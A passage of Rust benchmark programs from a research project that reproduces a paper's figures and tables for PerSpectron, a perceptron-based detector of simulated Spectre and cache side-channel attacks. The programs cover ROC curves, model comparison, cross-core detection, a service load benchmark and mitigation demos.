        }
        println!();
    }
    let cost = detector.hardware_cost();
    println!(
        "hardware: {} cycles/inference, {} bits storage, {} multipliers",
        cost.inference_cycles, cost.storage_bits, cost.multipliers
    );
}
