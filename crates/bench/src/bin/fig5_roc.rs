//! Figure 5: ROC curves for 10K / 50K / 100K sampling granularities.
//!
//! For each granularity the corpus is re-collected, the detector trained on
//! a stratified split, and the ROC traced over the held-out samples'
//! confidences.

use mlkit::{auc, roc_curve};
use perspectron::dataset::Encoding;
use perspectron::{paper_folds, Dataset, FeatureSelection, PerSpectron, SelectionConfig};
use perspectron_bench::experiment_corpus;

fn main() {
    println!("FIGURE 5: ROC for different sampling granularities\n");
    let mut summary = Vec::new();

    for interval in [10_000u64, 50_000, 100_000] {
        let corpus = experiment_corpus(interval);
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());

        // Attack-held-out split (Table III fold 1): whole families unseen
        // in training make the ROC informative — a stratified split of this
        // corpus separates perfectly at every granularity.
        let fold = &paper_folds()[0];
        let split = fold.split(&corpus, &dataset);
        let test_idx = &split.test;

        let mut train_ds = dataset.clone();
        train_ds.samples = split
            .train
            .iter()
            .map(|&i| dataset.samples[i].clone())
            .collect();
        let det = PerSpectron::train_with_selection(&train_ds, selection);

        let scores: Vec<f64> = test_idx
            .iter()
            .map(|&i| det.confidence(&dataset.samples[i].x))
            .collect();
        let truth: Vec<i8> = test_idx.iter().map(|&i| dataset.samples[i].y).collect();
        let roc = roc_curve(&scores, &truth);
        let area = auc(&roc);

        println!(
            "interval {:>6}: {} samples, AUC = {:.4}",
            interval,
            dataset.len(),
            area
        );
        // Print a decimated curve.
        print!("  fpr/tpr:");
        let step = (roc.len() / 12).max(1);
        for p in roc.iter().step_by(step) {
            print!(" ({:.2},{:.2})", p.fpr, p.tpr);
        }
        let last = roc.last().expect("roc non-empty");
        println!(" ({:.2},{:.2})", last.fpr, last.tpr);

        // Best threshold by Youden's J.
        let best = roc
            .iter()
            .max_by(|a, b| {
                (a.tpr - a.fpr)
                    .partial_cmp(&(b.tpr - b.fpr))
                    .expect("no NaN")
            })
            .expect("non-empty");
        println!(
            "  best threshold {:.3} (tpr {:.3}, fpr {:.3})\n",
            best.threshold, best.tpr, best.fpr
        );
        summary.push((interval, area));
    }

    println!("AUC by granularity:");
    for (i, a) in &summary {
        println!("  {i:>6}: {a:.4}");
    }
    let best = summary
        .iter()
        .max_by(|a, b| a.1.partial_cmp(&b.1).expect("no NaN"))
        .expect("non-empty");
    println!(
        "\nBest granularity: {} (paper: \"the 10K interval is better than the 50K and 100K\")",
        best.0
    );
}
