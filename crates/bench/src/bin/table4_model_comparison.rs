//! Table IV: ML model and feature-set comparison under attack-held-out
//! cross-validation.
//!
//! Reproduces the paper's grid: {DT-CART, Logistic Regression, Perceptron,
//! KNN, NN, PerSpectron} × {MAP committed-state features, PerSpectron
//! features, all 1159}, reporting mean accuracy with a 95% confidence
//! interval, the false-positive workloads, the missed attack families, and
//! the hardware complexity class.

use mlkit::metrics::mean_confidence;
use mlkit::{Classifier, DecisionTree, Knn, LogisticRegression, Majority, Mlp, Perceptron};
use perspectron::dataset::Encoding;
use perspectron::map_features::map_feature_indices;
use perspectron::{paper_folds, Dataset, FeatureSelection, HardwareCost, SelectionConfig};
use perspectron_bench::{experiment_corpus, render_table};

#[derive(Clone, Copy)]
enum FeatSpace {
    Map,
    Selected,
    All,
}

struct ModelSpec {
    name: &'static str,
    features: FeatSpace,
    feature_label: &'static str,
    complexity: &'static str,
    make: fn(usize) -> Box<dyn Classifier>,
}

fn main() {
    let corpus = experiment_corpus(10_000);
    let ks = Dataset::from_corpus(&corpus, Encoding::KSparse);
    let norm = Dataset::from_corpus(&corpus, Encoding::Normalized);
    let selection = FeatureSelection::select(&ks, &SelectionConfig::default());
    let map_idx = map_feature_indices(&ks.schema);
    let folds = paper_folds();

    let (pos, neg) = ks.class_counts();
    println!(
        "corpus: {} samples ({} malicious / {} benign), {} workloads, interval {}\n",
        ks.len(),
        pos,
        neg,
        corpus.traces.len(),
        corpus.sample_interval
    );
    println!(
        "selected features: {} of {}; MAP baseline features: {}\n",
        selection.selected.len(),
        ks.schema.len(),
        map_idx.len()
    );

    let models: Vec<ModelSpec> = vec![
        ModelSpec {
            name: "Majority",
            features: FeatSpace::Map,
            feature_label: "-",
            complexity: "low",
            make: |_| Box::new(Majority::new()),
        },
        ModelSpec {
            name: "DT-CART*",
            features: FeatSpace::Map,
            feature_label: "MAP",
            complexity: "low",
            make: |_| Box::new(DecisionTree::new(8, 4)),
        },
        ModelSpec {
            name: "DT-CART",
            features: FeatSpace::Selected,
            feature_label: "PerSpectron",
            complexity: "low",
            make: |_| Box::new(DecisionTree::new(8, 4)),
        },
        ModelSpec {
            name: "LogisticRegression*",
            features: FeatSpace::Map,
            feature_label: "MAP",
            complexity: "low",
            make: |n| Box::new(LogisticRegression::new(n)),
        },
        ModelSpec {
            name: "Perceptron",
            features: FeatSpace::All,
            feature_label: "1159 features",
            complexity: "low",
            make: |n| Box::new(Perceptron::new(n)),
        },
        ModelSpec {
            name: "KNN",
            features: FeatSpace::Selected,
            feature_label: "PerSpectron",
            complexity: "high",
            make: |_| Box::new(Knn::new(3)),
        },
        ModelSpec {
            name: "NN*",
            features: FeatSpace::Map,
            feature_label: "MAP",
            complexity: "high",
            make: |n| Box::new(Mlp::new(n, 16, 9)),
        },
        ModelSpec {
            name: "NN",
            features: FeatSpace::Selected,
            feature_label: "PerSpectron",
            complexity: "high",
            make: |n| Box::new(Mlp::new(n, 16, 9)),
        },
        ModelSpec {
            name: "PerSpectron",
            features: FeatSpace::Selected,
            feature_label: "PerSpectron",
            complexity: "low",
            make: |n| Box::new(Perceptron::new(n)),
        },
    ];

    let mut rows = Vec::new();
    for spec in &models {
        let (dataset, indices): (&Dataset, Vec<usize>) = match spec.features {
            FeatSpace::Map => (&norm, map_idx.clone()),
            FeatSpace::Selected => (&ks, selection.selected.clone()),
            FeatSpace::All => (&ks, (0..ks.schema.len()).collect()),
        };
        let (x, y) = dataset.project(&indices);

        let mut accs = Vec::new();
        let mut fp_workloads = std::collections::BTreeSet::new();
        let mut fn_families = std::collections::BTreeSet::new();
        for fold in &folds {
            let split = fold.split(&corpus, dataset);
            let xt: Vec<Vec<f64>> = split.train.iter().map(|&i| x[i].clone()).collect();
            let yt: Vec<i8> = split.train.iter().map(|&i| y[i]).collect();
            let mut model = (spec.make)(indices.len());
            model.fit(&xt, &yt);
            let mut correct = 0usize;
            for &i in &split.test {
                let p = model.predict(&x[i]);
                if p == y[i] {
                    correct += 1;
                } else if p > 0 {
                    fp_workloads.insert(corpus.traces[dataset.samples[i].workload].name.clone());
                } else {
                    fn_families.insert(dataset.samples[i].family.label());
                }
            }
            accs.push(correct as f64 / split.test.len().max(1) as f64);
        }
        let (mean, ci) = mean_confidence(&accs);
        rows.push(vec![
            spec.name.to_string(),
            spec.feature_label.to_string(),
            format!("{mean:.4}"),
            format!("±{ci:.4}"),
            fp_workloads.into_iter().collect::<Vec<_>>().join(","),
            fn_families.into_iter().collect::<Vec<_>>().join(","),
            spec.complexity.to_string(),
        ]);
        println!("  done: {} ({})", spec.name, spec.feature_label);
    }

    println!("\nTABLE IV: ML model and feature-set comparison\n");
    println!(
        "{}",
        render_table(
            &[
                "Model",
                "Features",
                "MeanAcc",
                "95% CI",
                "FalsePositives",
                "MissedFamilies",
                "HW"
            ],
            &rows
        )
    );

    // Hardware cost appendix.
    println!("hardware cost detail:");
    let costs = [
        (
            "PerSpectron (106 inputs)",
            HardwareCost::perceptron(selection.selected.len(), 60),
        ),
        (
            "KNN (stored corpus)",
            HardwareCost::knn(ks.len() * 2 / 3, selection.selected.len()),
        ),
        (
            "NN (106x16 MLP)",
            HardwareCost::neural_network(selection.selected.len() * 16 + 16 * 2),
        ),
        ("DT-CART (depth 8)", HardwareCost::decision_tree(120, 8)),
    ];
    for (name, c) in costs {
        println!(
            "  {name:<26} {:>10} cycles/inference, {:>10} bits, {} multipliers ({})",
            c.inference_cycles, c.storage_bits, c.multipliers, c.complexity
        );
    }
}
