//! Table III: the attack-held-out cross-validation folds.

use perspectron::paper_folds;
use perspectron::CorpusSpec;

fn main() {
    // A zero-instruction collection builds labeled (empty) traces cheaply —
    // enough to render the fold table.
    let corpus = CorpusSpec::paper().with_insts(0).collect();
    println!("TABLE III: estimating the risk using cross validation");
    println!("(at each fold, one version of each attack category is excluded from training)\n");
    println!("k | D_k (test) | D_-k (train)");
    for fold in paper_folds() {
        println!("{}", fold.describe(&corpus));
        println!("   held-out benign: {}", fold.held_out_benign.join(", "));
    }
}
