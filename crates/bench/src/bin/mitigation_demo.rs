//! §IV-G mitigation demo: what happens after the detector raises the
//! alarm. Branch-predictor noise injection breaks the Spectre family;
//! CEASER-style index randomization breaks Prime+Probe; both cost some
//! performance — which is why the paper gates them behind detection
//! instead of leaving them always-on.

use sim_cpu::{Core, CoreConfig};
use workloads::layout::{RESULTS, SECRET};
use workloads::spectre::{spectre_v1, SpectreV1Params};

fn leaked_bytes(core: &Core) -> usize {
    SECRET
        .iter()
        .enumerate()
        .filter(|(i, &b)| core.mem().memory().read(RESULTS + *i as u64, 1) as u8 == b)
        .count()
}

fn recovered_nibbles(core: &Core) -> usize {
    (0..32u64)
        .filter(|&i| {
            let b = SECRET[(i >> 1) as usize];
            let expected = if i & 1 == 0 { b >> 4 } else { b & 15 };
            core.mem().memory().read(RESULTS + i, 1) as u8 == expected
        })
        .count()
}

fn main() {
    const INSTS: u64 = 1_500_000;

    println!("MITIGATION DEMO (§IV-G): countermeasures triggered on detection\n");

    // --- SpectreV1 vs branch-predictor noise ---
    let mut baseline = Core::new(
        CoreConfig::default(),
        spectre_v1(SpectreV1Params::default()),
    );
    baseline.run(INSTS);
    let mut noisy = Core::new(
        CoreConfig::default(),
        spectre_v1(SpectreV1Params::default()),
    );
    noisy.set_bp_noise(0.3);
    noisy.run(INSTS);
    println!("SpectreV1, {INSTS} instructions:");
    println!(
        "  no mitigation        : {:>2}/16 secret bytes leaked",
        leaked_bytes(&baseline)
    );
    println!(
        "  30% predictor noise  : {:>2}/16 secret bytes leaked",
        leaked_bytes(&noisy)
    );

    // --- Prime+Probe vs index randomization ---
    let mut pp_base = Core::new(
        CoreConfig::default(),
        workloads::cache_attacks::prime_probe(),
    );
    pp_base.run(3_000_000);
    let mut pp_rand = Core::new(
        CoreConfig::default(),
        workloads::cache_attacks::prime_probe(),
    );
    pp_rand.randomize_cache_indexing(0x5DEECE66D);
    pp_rand.run(3_000_000);
    println!("\nPrime+Probe, 3M instructions:");
    println!(
        "  no mitigation        : {:>2}/32 victim nibbles recovered",
        recovered_nibbles(&pp_base)
    );
    println!(
        "  index randomization  : {:>2}/32 victim nibbles recovered",
        recovered_nibbles(&pp_rand)
    );

    // --- Performance cost on benign work (why it's gated on detection) ---
    // hmmer has well-predicted branches, so the injected noise is visible
    // (sjeng's random branches already mispredict constantly).
    let mut bench = Core::new(
        CoreConfig::default(),
        workloads::benign::hmmer().expect("hmmer assembles"),
    );
    bench.run(500_000);
    let ipc_clean = bench.committed_insts() as f64 / bench.cycles() as f64;
    let mut bench_noisy = Core::new(
        CoreConfig::default(),
        workloads::benign::hmmer().expect("hmmer assembles"),
    );
    bench_noisy.set_bp_noise(0.05);
    bench_noisy.run(500_000);
    let ipc_noisy = bench_noisy.committed_insts() as f64 / bench_noisy.cycles() as f64;
    println!("\nbenign cost (hmmer): IPC {ipc_clean:.3} → {ipc_noisy:.3} under 5% noise");
    println!(
        "  ({:.1}% slowdown — the reason mitigations are gated behind detection)",
        (1.0 - ipc_noisy / ipc_clean) * 100.0
    );
}
