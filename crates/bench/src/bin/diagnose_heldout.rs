//! Held-out-generalization diagnostic: trains on Table III's fold 1
//! (spectreRSB, spectreV2, cacheOut, breakingKSLR and prime+probe all
//! excluded) and reports per-workload confidences and detection rates, plus
//! the selected-feature differences between prime+probe and its calibration
//! — the paper's hardest generalization case.

fn main() {
    use perspectron::dataset::Encoding;
    use perspectron::*;
    let corpus = CorpusSpec::paper()
        .with_insts(150_000)
        .with_interval(10_000)
        .collect();
    let ds = Dataset::from_corpus(&corpus, Encoding::KSparse);
    let sel = FeatureSelection::select(&ds, &SelectionConfig::default());
    let fold = &paper_folds()[0];
    let split = fold.split(&corpus, &ds);
    let mut train_ds = ds.clone();
    train_ds.samples = split.train.iter().map(|&i| ds.samples[i].clone()).collect();
    let det = PerSpectron::train_with_selection(&train_ds, sel.clone());

    // per-workload mean confidence + train/test membership
    let test_set: std::collections::HashSet<_> = split.test.iter().copied().collect();
    for (w, t) in corpus.traces.iter().enumerate() {
        let confs: Vec<f64> = ds
            .samples
            .iter()
            .enumerate()
            .filter(|(_, s)| s.workload == w)
            .map(|(_i, s)| det.confidence(&s.x))
            .collect();
        let mean = confs.iter().sum::<f64>() / confs.len().max(1) as f64;
        let rate = confs.iter().filter(|&&c| c >= det.threshold).count() as f64
            / confs.len().max(1) as f64;
        let in_test = ds
            .samples
            .iter()
            .enumerate()
            .any(|(i, s)| s.workload == w && test_set.contains(&i));
        println!(
            "{:<28} {:>7.3} rate={:.2} {}",
            t.name,
            mean,
            rate,
            if in_test { "TEST" } else { "train" }
        );
    }
    // hamming similarity prime-probe vs calibration-pp on selected features
    let sel_idx = &det.selection().selected;
    let wl = |name: &str| corpus.traces.iter().position(|t| t.name == name).unwrap();
    let (pp, cpp) = (wl("prime-probe"), wl("calibration-pp"));
    let row = |w: usize| -> Vec<f64> {
        let rows: Vec<&perspectron::Sample> =
            ds.samples.iter().filter(|s| s.workload == w).collect();
        sel_idx
            .iter()
            .map(|&i| rows.iter().map(|s| s.x[i]).sum::<f64>() / rows.len() as f64)
            .collect()
    };
    let (a, b) = (row(pp), row(cpp));
    let diff: Vec<(usize, f64, f64)> = a
        .iter()
        .zip(&b)
        .enumerate()
        .filter(|(_, (x, y))| (*x - *y).abs() > 0.5)
        .map(|(i, (x, y))| (i, *x, *y))
        .collect();
    println!(
        "\nprime-probe vs calibration-pp differing selected features: {} of {}",
        diff.len(),
        sel_idx.len()
    );
    for (i, x, y) in diff.iter().take(15) {
        println!(
            "  pp={:.2} cal={:.2} w={:+.3} {}",
            x,
            y,
            det.perceptron().weights()[*i],
            det.selection().names[*i]
        );
    }
    // features active in prime-probe with positive weight?
    let mut act: Vec<(f64, f64, String)> = a
        .iter()
        .enumerate()
        .map(|(i, &x)| {
            (
                x,
                det.perceptron().weights()[i],
                det.selection().names[i].clone(),
            )
        })
        .filter(|(x, _, _)| *x > 0.5)
        .collect();
    act.sort_by(|p, q| q.1.partial_cmp(&p.1).unwrap());
    println!("\nprime-probe active selected features (sorted by weight):");
    for (x, w, n) in act.iter().take(12) {
        println!("  act={:.2} w={:+.3} {}", x, w, n);
    }
    for (x, w, n) in act.iter().rev().take(6) {
        println!("  act={:.2} w={:+.3} {} (most negative)", x, w, n);
    }
}
