//! Service replay benchmark: `perspectrond` under a fleet-shaped load.
//!
//! Trains the detector, writes the corpus to the mmap-able columnar
//! format, then replays it as ≥1024 concurrent streams through the
//! sharded service and measures submit-to-verdict latency (p50/p99),
//! aggregate windows/s, and streams per core. Every stream's verdict
//! sequence is verified bit-identical to running that stream alone
//! through `streaming_packed()` — the benchmark refuses to report a
//! number it cannot prove lossless.
//!
//! Writes `BENCH_service.json` at the workspace root.
//! `PERSPECTRON_QUICK=1` shrinks the training corpus (streams stay at
//! 1024 so the concurrency claim is still exercised);
//! `PERSPECTRON_SERVICE_STREAMS` overrides the stream count.

use std::time::Instant;

use perspectron::corpus_io::{self, CorpusReader};
use perspectron::IntervalVerdict;
use perspectron_bench::trained_detector;
use perspectron_serviced::{replay_clients, Perspectrond, ReplayConfig, ServiceConfig};
use uarch_stats::SampleSink;

fn main() {
    let streams: usize = std::env::var("PERSPECTRON_SERVICE_STREAMS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(1024);
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());

    eprintln!("service_bench: training detector…");
    let (corpus, detector) = trained_detector();

    // The corpus goes to disk and comes back through the mmap reader —
    // the replay clients never touch the in-memory corpus.
    let path = std::env::temp_dir().join(format!("service_bench_{}.pspc", std::process::id()));
    corpus_io::write_corpus(&path, &corpus).expect("write corpus");
    let reader = CorpusReader::open(&path).expect("open corpus");
    eprintln!(
        "service_bench: corpus {} traces, mmap: {}",
        reader.n_traces(),
        reader.is_mapped()
    );

    // Reference verdicts per trace: the lone-stream packed sink.
    let references: Vec<Vec<IntervalVerdict>> = corpus
        .traces
        .iter()
        .map(|t| {
            let mut sink = detector.streaming_packed();
            let width = t.trace.schema().len();
            let flat = t.trace.flat_values();
            for (j, &at) in t.trace.instruction_counts().iter().enumerate() {
                sink.on_sample(at, &flat[j * width..(j + 1) * width]);
            }
            sink.flush();
            sink.verdicts().to_vec()
        })
        .collect();

    let shards = cores;
    let service = Perspectrond::start(
        &detector,
        ServiceConfig {
            shards,
            ..ServiceConfig::default()
        },
    );
    let submitter = service.submitter();
    let started = Instant::now();
    let outcome = replay_clients(
        &reader,
        &submitter,
        &ReplayConfig {
            streams,
            client_threads: cores.clamp(1, 8),
            ..ReplayConfig::default()
        },
    );
    drop(submitter);
    let report = service.shutdown().expect("clean shutdown");
    let elapsed_secs = started.elapsed().as_secs_f64();
    std::fs::remove_file(&path).ok();

    // Losslessness proof: exactly the submitted windows scored, and every
    // stream bit-identical to its lone-stream reference.
    assert_eq!(
        report.windows_scored, outcome.submitted,
        "windows lost or duplicated"
    );
    assert_eq!(report.streams.len(), streams, "streams lost");
    for s in 0..streams as u64 {
        let expect = &references[s as usize % references.len()];
        let got = report.verdicts_of(s).expect("stream reported");
        assert_eq!(got.len(), expect.len(), "stream {s}: verdict count");
        for (g, e) in got.iter().zip(expect) {
            assert_eq!(
                g.confidence.to_bits(),
                e.confidence.to_bits(),
                "stream {s}: verdict drifted from lone-stream reference"
            );
        }
    }
    eprintln!("service_bench: all {streams} streams verified bit-identical");

    // Quiet-plan resilience envelope: the default config runs no chaos,
    // so any worker restart means the supervisor tripped on real code,
    // and any shed submission means the patient replay policy gave up —
    // both are bugs, not load artifacts.
    assert!(
        report.restarts.is_empty(),
        "worker restarted under the quiet plan: {:?}",
        report.restarts
    );
    assert_eq!(report.shed, 0, "submissions shed under the quiet plan");
    assert_eq!(
        report.lost_windows(),
        0,
        "windows lost under the quiet plan"
    );

    let p50_us = report.p50_us();
    let p99_us = report.p99_us();
    let aggregate_windows_per_sec = report.windows_scored as f64 / elapsed_secs.max(1e-9);
    let streams_per_core = streams as f64 / shards as f64;

    let json = format!(
        "{{\n  \"bench\": \"perspectrond_replay\",\n  \"streams\": {streams},\n  \"shards\": {shards},\n  \"client_threads\": {client_threads},\n  \"windows\": {windows},\n  \"sweeps\": {sweeps},\n  \"max_coalesced\": {max_coalesced},\n  \"busy_retries\": {busy_retries},\n  \"shed\": {shed},\n  \"retries\": {retries},\n  \"restarts\": {restarts},\n  \"elapsed_secs\": {elapsed_secs:.3},\n  \"p50_us\": {p50_us},\n  \"p99_us\": {p99_us},\n  \"streams_per_core\": {streams_per_core:.1},\n  \"aggregate_windows_per_sec\": {aggregate_windows_per_sec:.0},\n  \"verified_bit_identical\": true\n}}\n",
        client_threads = cores.clamp(1, 8),
        windows = report.windows_scored,
        sweeps = report.sweeps,
        max_coalesced = report.max_coalesced,
        busy_retries = outcome.busy_retries,
        shed = report.shed,
        retries = report.retries,
        restarts = report.restarts.len(),
    );
    let out = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_service.json");
    if let Err(e) = std::fs::write(out, &json) {
        eprintln!("could not write BENCH_service.json: {e}");
    }
    println!("{json}");
}
