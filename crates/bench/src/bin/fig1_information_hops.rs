//! Figure 1: information about attack activity hops between input
//! dimensions.
//!
//! Runs the attacks of Figure 1 plus a safe program, then prints the
//! max-normalized mean of the figure's four features per workload and the
//! resulting k-sparse signature vector. Different attacks light up
//! different dimensions — the viewpoint problem the replicated detectors
//! solve.

use perspectron::{CorpusSpec, Dataset};
use perspectron_bench::render_table;

const FEATURES: [(&str, &str); 4] = [
    ("f1=ReadResp", "membus.trans_dist::ReadResp"),
    ("f2=commitNonSpecStalls", "commit.NonSpecStalls"),
    (
        "f3=PendingQuiesceStallCycles",
        "fetch.PendingQuiesceStallCycles",
    ),
    ("f4=CleanEvict", "tol2bus.trans_dist::CleanEvict"),
];

fn main() {
    let mut all = workloads::full_suite();
    all.retain(|w| {
        [
            "flush-flush",
            "flush-reload",
            "prime-probe",
            "spectre-rsb",
            "meltdown",
            "hmmer",
        ]
        .contains(&w.name.as_str())
    });
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let corpus = CorpusSpec {
        insts_per_workload: if quick { 150_000 } else { 400_000 },
        sample_interval: 10_000,
        workloads: all,
    }
    .collect();
    let dataset = Dataset::from_corpus(&corpus, perspectron::dataset::Encoding::Normalized);

    let idx: Vec<usize> = FEATURES
        .iter()
        .map(|(_, name)| dataset.schema.index_of(name).expect("feature exists"))
        .collect();

    println!("FIGURE 1: information hops between input dimensions");
    println!("(max-normalized mean per workload; k-sparse bit in parentheses)\n");

    let mut rows = Vec::new();
    for (w, t) in corpus.traces.iter().enumerate() {
        let mut cells = vec![t.name.clone()];
        let samples: Vec<&perspectron::Sample> =
            dataset.samples.iter().filter(|s| s.workload == w).collect();
        let mut bits = String::from("<");
        for (&i, _) in idx.iter().zip(FEATURES.iter()) {
            let mean: f64 =
                samples.iter().map(|s| s.x[i]).sum::<f64>() / samples.len().max(1) as f64;
            let bit = u8::from(mean > 0.5);
            cells.push(format!("{mean:.3} ({bit})"));
            bits.push_str(&format!("{bit},"));
        }
        bits.pop();
        bits.push('>');
        let label = if t.class == workloads::Class::Malicious {
            "suspicious"
        } else {
            "safe"
        };
        cells.push(format!("{label}: {bits}"));
        rows.push(cells);
    }
    let headers: Vec<&str> = std::iter::once("workload")
        .chain(FEATURES.iter().map(|(short, _)| *short))
        .chain(std::iter::once("signature"))
        .collect();
    println!("{}", render_table(&headers, &rows));
    println!(
        "Each attack lights up a different dimension (the viewpoint problem);\n\
         the k-sparse signatures remain pairwise distinct."
    );
}
