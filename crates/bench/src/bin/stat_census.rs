//! §V statistics census: the 1159 microarchitectural counters, broken down
//! by pipeline component.

use perspectron::component_of;
use perspectron_bench::render_table;
use sim_cpu::{Core, CoreConfig};
use uarch_isa::Assembler;
use uarch_stats::Snapshot;

fn main() {
    let mut a = Assembler::new("census");
    a.halt();
    let core = Core::new(CoreConfig::default(), a.finish().expect("assembles"));
    let snap = Snapshot::of(&core, "");

    let mut by_comp: std::collections::BTreeMap<&str, usize> = std::collections::BTreeMap::new();
    for name in snap.names() {
        *by_comp.entry(component_of(name)).or_default() += 1;
    }

    println!("STATISTICS CENSUS (paper §V: \"We examined 1159 microarchitectural counters\")\n");
    let rows: Vec<Vec<String>> = by_comp
        .iter()
        .map(|(c, n)| vec![c.to_string(), n.to_string()])
        .collect();
    println!("{}", render_table(&["component", "statistics"], &rows));
    println!("components: {}", by_comp.len());
    println!("total statistics: {}", snap.len());
}
