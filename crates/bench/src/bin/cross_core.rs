//! Cross-core detection experiment: does the perceptron separate
//! cross-core attacks (Prime+Probe / Flush+Reload across the shared L2,
//! Spectre co-location) from *noisy-neighbor* benign pairs that contend
//! just as hard on the shared uncore?
//!
//! The corpus is the two-core scenario suite collected through the
//! `Machine` path: per-core stat banks (`core0.*`, `core1.*`) plus the
//! shared L2/bus/DRAM columns, sampled every 10K machine-wide committed
//! instructions. Three detectors are trained and evaluated on the full
//! suite:
//!
//! 1. **machine-wide** — the full namespaced schema;
//! 2. **attacker-core view** — `core0.*` + shared columns only
//!    (`core_feature_indices(.., 0)`), the slice a per-core detector
//!    instance would observe in hardware;
//! 3. **victim-core view** — `core1.*` + shared columns, the co-tenant's
//!    perspective (the attack must still be visible from the other side
//!    of the bus for a shared-uncore deployment to work).
//!
//! Writes `experiments/cross_core.json`. `PERSPECTRON_QUICK=1` shrinks
//! the per-scenario instruction budget for CI smoke runs.

use perspectron::dataset::Encoding;
use perspectron::{
    core_feature_indices, Dataset, FeatureSelection, InferencePath, PerSpectron, ScenarioSpec,
    SelectionConfig,
};

/// The inference engine this experiment scores with: the bit-packed fast
/// path, making every run an end-to-end smoke test of packed detection
/// (verdicts are bit-identical to the scalar path, which the machine-wide
/// detector cross-checks below).
const PATH: InferencePath = InferencePath::Packed;

/// Trains on the given schema-index slice (intersected with the
/// feature-selected set) and evaluates on the full corpus.
fn view_report(
    dataset: &Dataset,
    selection: &FeatureSelection,
    view: &[usize],
    corpus: &perspectron::CollectedCorpus,
) -> (usize, perspectron::DetectionReport) {
    let allowed: std::collections::BTreeSet<usize> = view.iter().copied().collect();
    let selected: Vec<usize> = selection
        .selected
        .iter()
        .copied()
        .filter(|i| allowed.contains(i))
        .collect();
    let names = selected
        .iter()
        .map(|&i| dataset.schema.name(i).to_string())
        .collect();
    let sliced = FeatureSelection {
        selected: selected.clone(),
        names,
        groups: Vec::new(),
        relevance: selection.relevance.clone(),
    };
    let det = PerSpectron::train_with_selection(dataset, sliced);
    (selected.len(), det.evaluate_via(corpus, PATH))
}

fn main() {
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let spec = if quick {
        ScenarioSpec::cross_core_quick()
    } else {
        ScenarioSpec::cross_core()
    };
    println!(
        "CROSS-CORE DETECTION: {} two-core scenarios, {} insts each (inference path: {})\n",
        spec.scenarios.len(),
        spec.insts_per_scenario,
        PATH.label()
    );

    let corpus = spec.collect();
    let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
    let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());
    println!(
        "corpus: {} samples x {} namespaced stats, {} features selected",
        dataset.len(),
        dataset.schema.len(),
        selection.selected.len()
    );

    // Machine-wide detector over the full namespaced schema, scored on
    // the packed path and cross-checked against the scalar reference:
    // identical confusion counts or the fast path has drifted.
    let det = PerSpectron::train_with_selection(&dataset, selection.clone());
    let report = det.evaluate_via(&corpus, PATH);
    let scalar_report = det.evaluate_via(&corpus, InferencePath::Scalar);
    assert_eq!(
        (
            report.confusion.tp,
            report.confusion.fp,
            report.confusion.tn,
            report.confusion.fn_
        ),
        (
            scalar_report.confusion.tp,
            scalar_report.confusion.fp,
            scalar_report.confusion.tn,
            scalar_report.confusion.fn_
        ),
        "packed and scalar inference disagree on the cross-core corpus"
    );

    // Per-core views: the attacker core's slice and the victim core's.
    let schema_names = dataset.schema.names();
    let (attacker_feats, attacker) = view_report(
        &dataset,
        &selection,
        &core_feature_indices(schema_names, 0),
        &corpus,
    );
    let (victim_feats, victim) = view_report(
        &dataset,
        &selection,
        &core_feature_indices(schema_names, 1),
        &corpus,
    );

    let mut rows = Vec::new();
    for (label, feats, r) in [
        ("machine-wide", det.selection().selected.len(), &report),
        ("attacker-core view", attacker_feats, &attacker),
        ("victim-core view", victim_feats, &victim),
    ] {
        println!(
            "{label:<20} {feats:>4} features  acc {:.4}  fp {}  fn {}",
            r.confusion.accuracy(),
            r.confusion.fp,
            r.confusion.fn_
        );
        rows.push((label.to_string(), feats, r.confusion.accuracy()));
    }

    // Per-scenario mean confidence: the separation the numbers claim.
    println!("\nper-scenario mean confidence (machine-wide detector):");
    let mut per_scenario = Vec::new();
    for t in &corpus.traces {
        let series = det.confidence_series_via(t, PATH);
        let mean = series.iter().sum::<f64>() / series.len().max(1) as f64;
        println!("  {:<28} {:?}  {:+.3}", t.name, t.class, mean);
        per_scenario.push((t.name.clone(), format!("{:?}", t.class), mean));
    }

    // The tentpole's acceptance bar: cross-core attacks separate from the
    // noisy-neighbor benign co-runners.
    assert!(
        report.false_positive_workloads.is_empty(),
        "noisy-neighbor benign pairs must not be flagged: {:?}",
        report.false_positive_workloads
    );
    assert!(
        report.confusion.accuracy() >= 0.9,
        "cross-core attacks must separate from benign co-runners (acc {:.4})",
        report.confusion.accuracy()
    );

    let mut json = String::from("{\n  \"experiment\": \"cross_core_detection\",\n");
    json.push_str(&format!("  \"quick\": {quick},\n"));
    json.push_str(&format!("  \"inference_path\": \"{}\",\n", PATH.label()));
    json.push_str(&format!(
        "  \"scenarios\": {},\n  \"insts_per_scenario\": {},\n  \"samples\": {},\n  \"schema_width\": {},\n",
        spec.scenarios.len(),
        spec.insts_per_scenario,
        dataset.len(),
        dataset.schema.len()
    ));
    json.push_str("  \"detectors\": {\n");
    for (i, (label, feats, acc)) in rows.iter().enumerate() {
        json.push_str(&format!(
            "    \"{}\": {{ \"features\": {feats}, \"accuracy\": {acc:.4} }}{}\n",
            label.replace([' ', '-'], "_"),
            if i + 1 < rows.len() { "," } else { "" }
        ));
    }
    json.push_str("  },\n");
    json.push_str(&format!(
        "  \"false_positives\": {:?},\n  \"false_negatives\": {:?},\n",
        report.false_positive_workloads, report.false_negative_workloads
    ));
    json.push_str("  \"per_scenario_mean_confidence\": {\n");
    for (i, (name, class, mean)) in per_scenario.iter().enumerate() {
        json.push_str(&format!(
            "    \"{name}\": {{ \"class\": \"{class}\", \"mean\": {mean:.4} }}{}\n",
            if i + 1 < per_scenario.len() { "," } else { "" }
        ));
    }
    json.push_str("  }\n}\n");

    std::fs::create_dir_all("experiments").ok();
    let path = "experiments/cross_core.json";
    std::fs::write(path, &json).unwrap_or_else(|e| panic!("cannot write {path}: {e}"));
    println!("\nresult written to {path}");
}
