//! Table II: parameters of the simulated architecture.

use sim_cpu::CoreConfig;

fn main() {
    println!("TABLE II: Parameters of simulated architecture");
    println!("================================================");
    println!("{}", CoreConfig::default().to_table());
}
