//! Figure 4: perceptron output vs. number of instructions for SpectreV1 at
